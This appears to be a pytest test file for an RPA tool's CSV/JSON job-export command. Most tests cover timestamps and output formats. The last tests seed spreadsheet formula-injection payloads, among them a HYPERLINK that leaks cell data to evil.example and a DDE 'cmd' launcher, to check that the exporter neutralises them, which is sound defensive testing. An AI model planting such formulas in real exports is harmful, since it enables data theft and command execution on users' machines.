"""Jobs as rows: the figures an operator reports from, and ``rasa-rpa export``."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from pathlib import Path

import pytest
import yaml

from rasa_rpa.cli import main
from rasa_rpa.models import EventType, Job, JobEvent, JobState
from rasa_rpa.ops.export import (
    EXPORT_COLUMNS,
    export_row,
    iso,
    parse_since,
    render_csv,
    to_json,
)
from rasa_rpa.stores.sqlite import SQLiteJobStore
from tests.conftest import base_config

T0 = 1_714_564_800.0  # 2024-05-01T12:00:00Z


def finished_job() -> Job:
    return Job(
        "job-1",
        "collect_order_details",
        "local",
        "conv-1",
        state=JobState.FAILED,
        error="Unknown customer",
        created_at=T0,
        updated_at=T0 + 5,
        started_at=T0 + 1.5,
        finished_at=T0 + 5.25,
    )


def test_row_has_iso_times_and_spans() -> None:
    row = export_row(finished_job(), events=3)
    assert list(row) == list(EXPORT_COLUMNS)
    assert row["created_at"] == "2024-05-01T12:00:00.000Z"
    assert row["started_at"] == "2024-05-01T12:00:01.500Z"
    assert row["queue_seconds"] == 1.5
    assert row["run_seconds"] == 3.75
    assert row["total_seconds"] == 5.25
    assert (row["state"], row["error"], row["events"]) == (
        "failed",
        "Unknown customer",
        3,
    )


def test_unfinished_job_has_no_spans_yet() -> None:
    row = export_row(Job("j", "a", "local", "c", created_at=T0), events=0)
    assert row["started_at"] is None and row["finished_at"] is None
    assert row["queue_seconds"] is None and row["total_seconds"] is None
    assert iso(None) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-05-01", T0 - 12 * 3600),
        ("2024-05-01T12:00:00Z", T0),
        ("2024-05-01T12:00:00", T0),  # no zone: UTC
        ("2024-05-01T14:00:00+02:00", T0),
    ],
)
def test_since_accepts_iso_8601(text: str, expected: float) -> None:
    assert parse_since(text) == expected


def test_since_refuses_other_text() -> None:
    with pytest.raises(ValueError, match="ISO 8601"):
        parse_since("yesterday")


def test_csv_and_json_rows() -> None:
    rows = [export_row(finished_job(), 3), export_row(Job("j2", "a", "p", "c"), 0)]
    parsed = list(csv.DictReader(io.StringIO(render_csv(rows))))
    assert parsed[0]["id"] == "job-1" and parsed[0]["queue_seconds"] == "1.5"
    assert parsed[1]["finished_at"] == ""  # None is an empty cell, not "None"
    out = io.StringIO()
    to_json(rows, out)
    assert json.loads(out.getvalue())[1]["finished_at"] is None


# -- the command ---------------------------------------------------------------


async def seed(db: Path, count: int, *, dead: bool = False) -> list[Job]:
    """``count`` jobs in a SQLite store, one minute apart, each with two events.

    With ``dead``, the first job's first message to Rasa is set aside as dead.
    """
    store = SQLiteJobStore(db)
    await store.open()
    jobs = []
    try:
        for n in range(count):
            created = T0 + 60 * n
            job = Job(
                f"job-{n:03d}",
                "collect_order_details",
                "local",
                f"conv-{n % 2}",
                created_at=created,
                updated_at=created,
            )
            await store.create_job(job)
            started = JobEvent("e1", job.id, EventType.STARTED, received_at=created + 1)
            await store.record_event(started)
            outcome = (
                JobEvent("e2", job.id, EventType.SUCCEEDED, received_at=created + 4)
                if n % 3
                else JobEvent(
                    "e2",
                    job.id,
                    EventType.FAILED,
                    {"error": "boom"},
                    received_at=created + 4,
                )
            )
            jobs.append((await store.record_event(outcome)).job)
        if dead:
            due = await store.claim_due(time.time() + 60, limit=1, lease=30)
            await store.mark_dead(due[0].seq or 0, "Rasa answered 400: bad", T0)
    finally:
        await store.close()
    return jobs


def write_config(tmp_path: Path) -> str:
    path = tmp_path / "rpa.yml"
    path.write_text(yaml.safe_dump(base_config(tmp_path)))
    return str(path)


def test_export_csv_to_a_file_with_progress(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(seed(tmp_path / "jobs.db", 25))
    out = tmp_path / "jobs.csv"
    args = ["export", "--config", write_config(tmp_path), "--output", str(out)]
    assert main([*args, "--progress"]) == 0
    err = capsys.readouterr().err
    assert "exporting [" in err and "25/25" in err
    assert "25 job(s) written" in err
    rows = list(csv.DictReader(out.open()))
    assert [r["id"] for r in rows] == [
        f"job-{n:03d}" for n in range(25)
    ]  # oldest first
    assert rows[0]["state"] == "failed" and rows[0]["error"] == "boom"
    assert rows[1]["state"] == "succeeded" and rows[1]["events"] == "2"
    assert rows[1]["queue_seconds"] == "1.0" and rows[1]["run_seconds"] == "3.0"


def test_export_json_since(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    asyncio.run(seed(tmp_path / "jobs.db", 5))
    config = write_config(tmp_path)
    since = "2024-05-01T12:02:00Z"  # job-002 onwards
    assert (
        main(["export", "--config", config, "--format", "json", "--since", since]) == 0
    )
    captured = capsys.readouterr()
    rows = json.loads(captured.out)
    assert [r["id"] for r in rows] == ["job-002", "job-003", "job-004"]
    assert rows[0]["created_at"] == "2024-05-01T12:02:00.000Z"
    assert "exporting [" not in captured.err  # stderr is no terminal here


def test_export_refuses_a_bad_since(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--config", write_config(tmp_path), "--since", "soon"]) == 2
    assert "ISO 8601" in capsys.readouterr().err


def test_csv_cells_cannot_be_formulas():
    text = render_csv([{"id": "j1", "error": "=HYPERLINK(\"http://x\")"}])
    assert "'=HYPERLINK" in text


#: Cells a spreadsheet reads as a formula once it skips leading blanks and
#: control characters, and cells that start a new row (whose first cell is a
#: formula) when a CR or LF in them is not quoted.
FORMULAS = [
    "\r=HYPERLINK(\"http://evil.example/?\"&A1)",
    "\t=1+1",
    "  +SUM(A1:A9)",
    "\n-2+3",
    "\x1f@SUM(1)",
    "\u00a0=cmd|' /C calc'!A0",
]
LINE_BREAKS = ["ok\r=2+2", "ok\n@SUM(1)"]
HOSTILE = FORMULAS + LINE_BREAKS


def test_export_csv_neutralises_formulas_after_blanks_and_line_breaks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async def seed_hostile() -> None:
        store = SQLiteJobStore(tmp_path / "jobs.db")
        await store.open()
        try:
            for n, text in enumerate(HOSTILE):
                # The user chooses the conversation id; a robot writes the error.
                job = Job(f"job-{n}", "a", "p", text, created_at=T0 + n,
                          updated_at=T0 + n)
                await store.create_job(job)
                failed = JobEvent("e1", job.id, EventType.FAILED, {"error": text},
                                  received_at=T0 + n + 1)
                await store.record_event(failed)
        finally:
            await store.close()

    asyncio.run(seed_hostile())
    out = tmp_path / "jobs.csv"
    assert main(["export", "--config", write_config(tmp_path), "--output",
                 str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as file:
        raw = file.read()
    # A spreadsheet starts a row at every CR or LF outside quotes.
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 1 + len(HOSTILE), raw
    header = rows[0]
    for n, row in enumerate(rows[1:]):
        cells = dict(zip(header, row, strict=True))
        assert cells["id"] == f"job-{n}"
        for column in ("conversation_id", "error"):
            # Prefixed only where the cell itself is a formula; either way the
            # text reads back whole, in its own row.
            prefix = "'" if HOSTILE[n] in FORMULAS else ""
            assert cells[column] == prefix + HOSTILE[n], (column, cells[column])
